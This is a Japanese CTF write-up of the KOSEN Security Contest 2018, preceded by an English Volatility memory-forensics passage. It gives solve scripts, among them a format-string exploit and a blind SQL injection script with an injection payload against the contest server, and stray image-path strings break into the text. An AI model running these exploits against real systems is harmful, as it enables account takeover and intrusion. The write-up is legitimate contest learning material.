0x000000003e5062b0 wininit.exe         372    308 0x000000001fc50000 2018-09-11 04:15:33 UTC+0000
0x000000003e510a00 winlogon.exe        400    356 0x000000001f19d000 2018-09-11 04:15:33 UTC+0000
0x000000003e551060 services.exe        460    372 0x000000001eb54000 2018-09-11 04:15:33 UTC+0000
0x000000003e55bb30 lsm.exe             476    372 0x000000001f47c000 2018-09-11 04:15:33 UTC+0000
0x000000003e5b7b30 svchost.exe         584    460 0x000000001e7c5000 2018-09-11 04:15:34 UTC+0000
0x000000003e612b30 svchost.exe         664    460 0x000000001b903000 2018-09-11 04:15:34 UTC+0000
0x000000003edbe2d0 SearchIndexer.     1988    460 0x000000000fe67000 2018-09-11 04:16:12 UTC+0000
0x000000003f41c750 smss.exe            232      4 0x0000000025ac0000 2018-09-11 04:15:30 UTC+0000
0x000000003febdb30 notepad++.exe      1568   1720 0x0000000005f4c000 2018-09-11 04:16:39 UTC+0000   2018-09-11 04:16:48 UTC+0000
0x000000003ffbdae0 System                4      0 0x0000000000187000 2018-09-11 04:15:30 UTC+0000
0x000000003ffc65f0 csrss.exe           364    356 0x000000001fb97000 2018-09-11 04:15:33 UTC+0000

As youcan see from the list, notepad++ had terminated. I tried to dump the process but it didn't work. Maybe the flag is written to the disk by notepad++. filescan is useful when we want to survey the files.

$ vol.py -f batou --profile=Win7SP1x64 filescan > filelist

I looked over the list and found curious lines in which notepad++ makes some backup files.

0x000000003fe9c930     16      0 R--rw- \Device\HarddiskVolume2\Users\Batou\AppData\Roaming\Notepad++\backup\new 2@2018-09-10_203737
0x000000003feacbc0      3      0 R--r-d \Device\HarddiskVolume2\Windows\SysWOW64\WindowsCodecs.dll
0x000000003fead410     16      0 R--rw- \Device\HarddiskVolume2\Users\Batou\AppData\Roaming\Notepad++\backup\new 1@2018-09-10_202915

Those files can be dumped by dumpfile. The extracted file has the flag in hex :-)

$ vol.py -f batou --profile=Win7SP1x64 dumpfiles --dump-dir="./" -Q 0x000000003fe9c930
$ cat file.None.0xfffffa8000da35c0.dat

53 45
43 54 7b34 6c 6c 5f 79 6f 75 72 5f 4e 30 74 33 73 5f 34 72 33 5f 62 33 6c 30 6e 67 5f 74 30 5f 75 35

高専セキュリティコンテスト2018のWrite Up


2018年09月01日から02日にかけて福岡で高専セキュリティコンテスト(KOSESNSC)が開催されました. 編入試験が終わって時間が空いたので,久しぶりにCTFに参加しました. 久しぶりで腕も鈍っていたので,8月の終わりに研究室でKOSENSC対策の模擬CTFを2回やって練習しました. 勉強の成果もあって,2日目の最初の段階で全問解答し,無事優勝することができました.


私は1700ptくらい入れたので,解いた問題のwrite upを書きます. 難問ばっかり解いたふるつきのwrite upもどうぞ.


ネットワーク担当のthrustのwrite upはこちら.


CTF初心者(300点問題を解く)yoshikingのwrite upはこちら.



KOSENSC2018 - Google ドライブ



[01 Binary100] まどわされるな!(10分~15分)$ ./flag.out
flag is SCKOSEN{you_are_go... oops! I Forgot!

問題内容通りフラグの先頭だけ表示されます.IDAで解析してもこの文章を出力するだけでした. そこでbinwalkでflag.outを見てみると,JPEGデータが付いていたので取り出しました. (なぜかbinwalkでは取り出せなかったのでPythonで書きました.)

buf = open("flag.out").read()
buf = buf[buf.index("\xFF\xD8\xff\xe0"):]
open("hoge.jpg", "wb").write(buf)


[03 Binary100] printf(5分)

フラグを読み出せ!ゲームへの接続方法:nc [hostname] [port] 例:nc 80

ふるつきに「解けるからやっといて」と言われて解いた問題です. 接続するとフラグの入っている変数のアドレスが渡され,文字が入力できます. %xなどを入力すると怪しいアドレスが表示されるので,Format String Bugの脆弱性があることが分かります. (FSBがあることはふるつきが最初に教えてくれた.) これはprintf関数などのフォーマット書式を扱う関数に直接入力を与えていることが原因で起こります.例えば

char buf[1024];
scanf("%1000s", buf);

のようなコードは脆弱です.printfは%sなどの書式が与えられるとスタックからデータを読み込み表示します. したがって,%pをたくさん入力するとスタック上のデータをたくさん表示することができます. 同様に%sを与えればスタック上のアドレスにあるデータを表示することができます. Format String Attackについてはこちらに分かりやすく書かれています. 次のようなコードでフラグを読み出しました.

from pwn import *
from struct import *

sock = remote("", 80)
sock.recvuntil("in ")
addr = int(sock.recvline(), 16)
sock.recvuntil("want: ")
payload = struct.pack("<I", addr) + " %15$s"
print sock.recv(4000)


[05 Binary250] Simple anti debugger(20分~30分)



gdb-peda$ start
I hate debugger ~:-([Inferior 1 (process 5539) exited with code 01]

IDAで見るとdetect_debuggerなる関数があり,ptraceを使ってデバッガを検知しているので,検知の条件分岐の値をいじったバイナリを作ります. IDAのgraph viewで命令にカーソルを合わせた状態でHex Viewを見ると対応する機械語が分かるので,pythonでこの部分を変更したバイナリを作りました.

buf = open("simple_anti_debugger").read()
ofs = buf.index("\x83\xF8\xFF")
buf = buf[:ofs] + "\x83\xF8\xF0" + buf[ofs + 3:]
open("bin", "wb").write(buf)

これをgdbデバッグすると,検知されません. IDAの方でis_correct_password関数の中身を確認すると,入力の文字コードの総和が0xA5であればOKみたいです. gdbで文字数の総和を取っているメモリの値を0xA5に変更して進めると,decode関数に入ります. これも読もうかと思ったのですが,decode関数を出るときにメモリ上にフラグがありました.


この問題はdecode関数を読むことでも解けます. decode関数はエンコードされたフラグ(encoded_flag)を入力として受け取り,デコードされたフラグを出力として返します. 内部ではencoded_flagを1文字ずつxor 1していたので,データ部にあるencoded_flagを処理してもフラグが得られます.

encoded_flag = "RBJNRDOzH^mhjd^edctffds|"

FLAG = ""for c in encoded_flag:
    FLAG += chr(ord(c) ^ 1)

print FLAG

[06 Crypto100] exchangeable if(10分~15分)


画像ファイルが渡され,フラグが書いてありますが,その中の4文字だけ分からないようです. exiftoolで画像を見ると"md5=2009d1c114ed83f57cf8adde69fd6ca8"という文字列がありました. しばらく眺めていると,これがフラグのmd5なのではと思いついたので,4文字に英数字を当てはめてmd5は一致するものを探すと,フラグが見つかりました.

import hashlib
import string

pre = "SCKOSEN{sHDtF1"lat = "NLTIWp}"
md5 = "2009d1c114ed83f57cf8adde69fd6ca8"

FLAG = ""
table = string.ascii_letters + "0123456789"
for s1 in table:
    for s2 in table:
        for s3 in table:
            for s4 in table:
                FLAG = pre + s1 + s2 + s3 + s4 + lat
                if hashlib.md5(FLAG).hexdigest() == md5:
                    print FLAG

[07 Crypto200] シンプルなQRコード(10分)

同じチームのthrustが解き始めたのですが,頑張ってQRの写真撮ってたので声をかけるとstrong-qr-decoderで解けるタイプのQRコードでした. thrustが正方形のQRっぽい形にしてくれていて,データ部も残っていたのでstrong-qr-decoderで読み込めそうでした. PILでQRコードの画像をテキストに変換し,strong-qr-decoderにかけるとフラグが出力されました. 詳しいwrite upはthrust2799が書いているはずなのでそちらを参照してください.

[08 Crypto200] 旅行の写真(10分)


一日目は触りませんでしたが,ホテルで解きました. 一日目にこれをやってた人が,周期的な線が入っていることや,青と緑の下位4ビットでそれが現れると言っていたので,それを繋げれば文字コードになるのでは,と思ってコードを書きました.

from PIL import Image

im = Image.open("problem.png")
size = im.size

FLAG = ""
for x in range(32):
    r,g,b = im.getpixel((x,0))
    p = g & 0b1111
    q = b & 0b1111
    FLAG += chr((p << 4) + q)

print FLAG[12 Web100] サーバーから情報を抜き出せ!(5分)



      <div class="card box" style="width: 20rem;">
        <img class="card-img-top" src="/image?filename=1.jpeg">
        <div class="card-body">
          <h4 class="card-title">ホットドッグマン</h4>
          <p class="card-text">頭にホットドックが刺さってるキャラクター</p>


[14 Web300] アカウントを奪え(30分~40分)


SQL Injectionでログインすると,ソースコードが渡され,ユーザー'kosenjoh'のパスワードを取れとのこと.Blind SQL Injectionの問題ですね. 先日研究室でふるつきが開いたKoHでBlind SQL Injectionが出題されたので記憶に新しく,すぐにコードを書くことができました.import requests
import json
import string

FLAG = ""
x = 0
while True:
    q = False
    x += 1
    for c in string.printable:
        payload = {'userid': 'kosenjoh', 'pass': "' OR SUBSTR(pass,{0},1)='{1}' LIMIT 1 ;-- ".format(x, c)}
        url = "http://bsql.kosensc2018.tech/"
        r = requests.post(url, data=payload)
        if "highlight_file" in r.text.encode("utf-8"):
            FLAG += c
            q = True
    if q == False:
        print("[ERROR] Unmatch")
        FLAG += "?"

最初printする場所が"FLAG += c"の前になってて1文字足りなかったので時間を取られました.

[21 Misc100] 謎のファイル(10分)fileコマンドではZIPと言われるのでunzipすると,"word"と"docProps"とかOffice製品っぽいフォルダが展開されます. 後で気づいたのですが,中にrename_me.xmlというXMLファイルがあったので,これを正しいファイル名に変更して適切にzip圧縮すれば解けそうです. 優勝が確定して見直しに入るまでは気づかなかったので別の解き方をしていました. unzipして出てきたファイルの中のdocument.xmlで"SCKOSEN"の"S"を探すと,xml構文をまたいで次に"C"があったので,これを繋げればフラグになるかなぁ,となんとなく思いました. 繋げると意味不明な文字列が出てきたのですが,"{"と"}"があるので並べ替えればフラグになると思って慎重に読むと,2文字飛ばして読めばフラグになることに気づきました.

import re
buf = open("document.xml").read()
res = re.findall("w:t>(.)</w:t", buf)
res = "".join(res)
print res
FLAG = ""
for i in range(0, len(res), 3):
    FLAG += res[i]
for i in range(1, len(res), 3):
    FLAG += res[i]
for i in range(2, len(res), 3):
    FLAG += res[i]

print FLAG

誰か正攻法教えて. rename_me.xmlを[Content_Types].xmlに変更してzip圧縮すればワードで開けるそうです.7zipで圧縮したせいか私は開けませんでした...... thrustによると無圧縮とか圧縮方法が関係しているそうです.

[23 Misc300] 攻撃ログ(3時間)1万数千行のWebサーバーアクセスログが渡されます. 何かがおかしいって何だよ...と思いながらログを見ると同じIPから大量の攻撃(OWASP ZAP?)がありました. 1行ずつ見ても終わらないので各行から得られる情報を整理するpythonコードを書きました. 使われてるメソッド,Content-Typeを一覧にしたり,レスポンス時間やレスポンスサイズを大きい順に並べたりといろいろして,候補を選ぶことにしました. Content-Typeの一覧を見ると,1つだけファイルアップロードしているっぽいリクエストがあったので候補に挙げました. レスポンスが500だったので,これは違うかなーと思って,使われているフレームワークを調べたり,レスポンスが404や500の後に200になっている行を探したりして調査を続けました. 11時半頃にみんな眠くなってきたとき,時刻通りに並んでいないリクエストが1つあることに気が付きました. これを見つけて絶対これじゃんってなってみんなで寝ました.(1日目終了時点で旅行写真とこの問題しか残ってなかった.) 